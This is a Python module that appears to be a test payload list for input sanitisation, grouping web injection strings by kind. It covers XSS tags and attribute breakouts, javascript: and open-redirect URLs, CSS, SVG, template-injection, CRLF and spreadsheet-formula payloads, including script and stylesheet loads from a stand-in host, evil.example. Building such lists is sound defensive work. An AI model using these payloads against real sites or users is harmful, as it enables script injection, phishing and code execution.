"""What somebody may type in the hope that it runs, dresses or rearranges a page: our own list, by kind."""
# ruff: noqa: E501 - each of these is one thing, and is read whole

RUN = "pwned=1"

TAGS = [f"<{tag} {event}={RUN}>" for tag, event in (
    ("svg", "onload"), ("img src=x", "onerror"), ("body", "onload"), ("video src=x", "onerror"), ("audio src=x", "onerror"),
    ("details open", "ontoggle"), ("marquee", "onstart"), ("input autofocus", "onfocus"), ("select autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"), ("button autofocus", "onfocus"), ("iframe", "onload"), ("object", "onerror"),
    ("div", "onpointerover"), ("p", "onmouseover"), ("a tabindex=1 autofocus", "onfocus"), ("form", "onsubmit"),
    ("style", "onload"), ("link rel=stylesheet href=x", "onerror"), ("x id=x tabindex=1", "onfocusin"),
    ("dialog open", "onclose"), ("x style=animation-name:a", "onanimationstart"), ("div contenteditable", "onbeforeinput"),
)] + [
    f"<script>{RUN}</script>", f"<SCRIPT>{RUN}</SCRIPT>", f"<script\n>{RUN}</script\n>", f"<script/x>{RUN}</script>",
    "<script src=//evil.example/x.js></script>", "<script src=data:text/javascript,pwned=1></script>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<meta http-equiv=Content-Security-Policy content=default-src*>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>", "<object data=data:text/html,x></object>", "<embed src=x>",
    f"<template><img src=x onerror={RUN}></template>", f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    "<form action=//evil.example><button>Go", "<h1>A heading of mine</h1>", "<textarea>", "<plaintext>", "<xmp>", "<!--", "<![CDATA[",
    "<?php echo 1 ?>", "<table><tr><td>", "<select><option>", f"<img/src=x/onerror={RUN}>", f"<img src=x onerror\x0c={RUN}>",
    "<main id=main>", "<div id=main class=wrong>", "<input name=csrf_token value=x>", "<a href=//evil.example>Sign in again</a>",
]
CORES = (f"onfocus={RUN} autofocus x=", f"onmouseover={RUN} ", f"><img src=x onerror={RUN}>", "style=position:fixed;inset:0 ")
BREAKOUTS = [f"{before}{core}" for before in ('"', "'", '" ', "' ", "`", '">', "'>", "\\\"", "&quot;") for core in CORES]
CLOSERS = [f"{close}<img src=x onerror={RUN}>" for close in (
    "</textarea>", "</title>", "</script>", "</style>", "</option></select>", "</p></li></ol>", "</td></tr></table>", "-->",
    "]]>", "</label>", "</button></form>", "</svg>", "</blockquote>", "</noscript>", "</main></body></html>", "</h1>",
)]
URLS = [
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f" javascript:{RUN}", f"java\tscript:{RUN}", f"java\nscript:{RUN}",
    f"javascript&colon;{RUN}", f"&#106;avascript:{RUN}", f"javascript://%0a{RUN}", "data:text/html,<script>pwned=1</script>",
    "data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+", f"vbscript:{RUN}", "//evil.example", "/\\evil.example",
    "\\\\evil.example", "https:evil.example", "/\t/evil.example", "http://evil.example/%2f..", "/%2e%2e//evil.example",
    "/.//evil.example", "?next=//evil.example", "#\"><img src=x onerror=pwned=1>", "blob:https://evil.example/x",
]
STYLES = [
    "x;background:url(javascript:pwned=1)", "expression(pwned=1)", "</style><script>pwned=1</script>", "@import'//evil.example/x.css';",
    "}*{display:none}", "#fff}body{display:none}", "#fff;--x:url(//evil.example)", "\\3c script\\3e", "red;}a{x:y",
    "<style>*{display:none}</style>", "<link rel=stylesheet href=//evil.example/x.css>", "<div style=position:fixed;inset:0>over it all",
]
PICTURES = [
    f"<svg><script>{RUN}</script></svg>", f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", f"<svg><a xlink:href=javascript:{RUN}>x",
    "<svg><use href=data:image/svg+xml,x#x>", f"<svg><foreignObject><img src=x onerror={RUN}>", f"<math><mtext><img src=x onerror={RUN}>",
    "<svg><set attributeName=href to=javascript:pwned=1>", "<math href=javascript:pwned=1>x", f"<svg><style><img src=x onerror={RUN}>",
]
BRACES = [
    "{{7*7}}", "{{ config }}", "{{ ''.__class__.__mro__ }}", "{% raw %}", "{% endblock %}", "{# a remark #}", "${7*7}", "#{7*7}",
    "<%= 7*7 %>", "{{constructor.constructor('pwned=1')()}}", "%(name)s", "{0.__class__}", "{request.url}", "%s%s%n", "$(id)", "`id`",
]
ENCODED = [
    "%3Cscript%3Epwned=1%3C/script%3E", "&lt;script&gt;pwned=1&lt;/script&gt;", "&#60;img src=x onerror=pwned=1&#62;",
    "\\u003cscript\\u003epwned=1\\u003c/script\\u003e", "\\x3cscript\\x3e", "+ADw-script+AD4-pwned=1+ADw-/script+AD4-",
    "\uff1cscript\uff1epwned=1\uff1c/script\uff1e", "\u2039script\u203a", "\u02bcx\u02bc onerror=pwned=1", "ſcript ſvg", "&lt<img>",
    "&", "&amp;lt;", "&copy", "&#x3c;b&#x3e;", "%2522%253E", "\ufeff<b>", "\u00a0<b>\u00a0", "\u2028<b>\u2029", "<\u200bscript>", "İ<b>ı",
]
NOUGHTS = ["\x00", "<scr\x00ipt>pwned=1</scr\x00ipt>", "\x00\"><b>", "\x07\x08<b>\x1b[31m", "\x7f<b>", "\r\nSet-Cookie: pwned=1", "%00<b>", "\x0b<b>"]
TURNED = [
    "\u202e<b>desrever", "\u2066\u2067<b>\u2069", "\u200f\">", "پارک <b>چاہیے</b>", "\u202dabc\u202c'", "\u061c<i>", "a\u0338<b>", "🌳<b>🌳",
]
FORMULAS = [
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", '=HYPERLINK("//evil.example","x")', '","=1+1","', ";=1+1;",
]
MARKS = [
    "[x](javascript:pwned=1)", "![x](//evil.example/x.png)", "<javascript:pwned=1>", "# a heading", "| a | b |", "```\ncode\n```", "---",
    "[x]: javascript:pwned=1", "**bold** _it_", "> quoted", "- item\n1. item", "\\<b>", "<b>**</b>",
]
JSONS = ['"}],"x":[{"', "\\\"}", "'}", "\\", "\\u0022", "{\"wishes\":[]}", "</script><script>pwned=1", "null", "]}}", "__proto__"]

PAYLOADS = [
    *TAGS, *BREAKOUTS, *CLOSERS, *URLS, *STYLES, *PICTURES, *BRACES, *ENCODED, *NOUGHTS, *TURNED, *FORMULAS, *MARKS, *JSONS,
]
